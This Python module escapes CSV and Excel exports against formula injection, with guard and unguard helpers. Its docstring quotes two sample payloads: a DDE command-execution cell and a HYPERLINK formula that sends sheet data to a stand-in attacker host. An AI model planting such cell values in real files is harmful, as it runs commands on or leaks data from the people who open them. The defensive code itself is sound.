"""Writing exports that spreadsheet programs open safely (CSV and Excel).

Excel, LibreOffice and Google Sheets read a cell that starts with `=`, `+`, `-`, `@`, a tab or a
carriage return as a formula: a team named `=cmd|' /C calc'!A0` or a last name
`=HYPERLINK("http://evil.example/?"&A1,"x")` would run, or send the sheet's data away, when HR,
PVT or the board open an export (CSV injection, OWASP). Every export writes through here:

- CSV: such a text cell starts with a single quote (`'=HYPERLINK(...)`), which spreadsheet
  programs take as "this is text" (OWASP's advice);
- Excel: every text cell is stored as text, never as a formula, and such a cell also gets Excel's
  quote prefix, so it stays text when someone edits it. Characters Excel cannot store (control
  characters) are left out instead of failing the export.

Only text is touched: numbers, dates and booleans are values, so a negative number stays a number.
The importers read back what an export wrote: `unguard` takes the quote off again
(core.csvio.read_csv), so an exported file imports unchanged."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterable

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, TYPE_STRING
from openpyxl.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
GUARD = "'"


def guard(value):
    """A text value that a spreadsheet would run as a formula, with a quote in front; any other
    value unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return GUARD + value
    return value


def unguard(value: str) -> str:
    """The text `guard` was given: the quote comes off only where `guard` put one."""
    if value.startswith(GUARD) and value[1:].startswith(FORMULA_START):
        return value[1:]
    return value


def csv_bytes(
    header: Iterable[str], rows: Iterable[Iterable], *, text: Callable[[object], str] = str
) -> bytes:
    """UTF-8 CSV with a BOM (so Excel reads UTF-8), text cells guarded; `text` writes the other
    values (None is an empty cell)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    for row in [header, *rows]:
        writer.writerow(
            [guard(v) if isinstance(v, str) else "" if v is None else text(v) for v in row]
        )
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def append(sheet: Worksheet, values: Iterable) -> None:
    """`sheet.append` for exports: text without the characters Excel cannot store."""
    sheet.append([ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v for v in values])


def xlsx_bytes(workbook: Workbook) -> bytes:
    """The saved workbook, with every text cell stored as text: none is a formula."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cell.data_type = TYPE_STRING  # openpyxl makes "=..." a formula otherwise
                    if cell.value.startswith(FORMULA_START):
                        cell.quotePrefix = True
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()
